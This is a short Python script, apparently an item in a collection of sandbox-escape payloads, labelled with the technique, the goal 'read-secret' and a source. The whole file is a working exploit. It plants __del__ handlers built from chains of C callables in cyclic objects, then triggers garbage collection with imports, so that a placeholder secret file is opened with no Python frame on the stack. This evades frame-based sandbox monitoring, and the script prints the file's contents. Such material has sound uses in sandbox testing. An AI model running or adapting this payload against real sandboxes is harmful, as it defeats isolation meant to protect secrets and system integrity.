# technique: the garbage collector, run by an import, calls a chain of C callables: no frame of ours is on the stack
# goal: read-secret
# source: own analysis: C callables have no frame
import functools
import sys
kept = []
FileIO = type(sys.stdin.buffer.raw)


class Bomb:
    pass


for _ in range(400):
    class Bomb:
        __del__ = staticmethod(functools.partial(next, map(kept.append, map(FileIO, ['@SECRET@'])), None))
    bomb = Bomb()
    bomb.self = bomb
del bomb
import difflib, calendar, statistics, uuid, hashlib
print(kept[0].read())
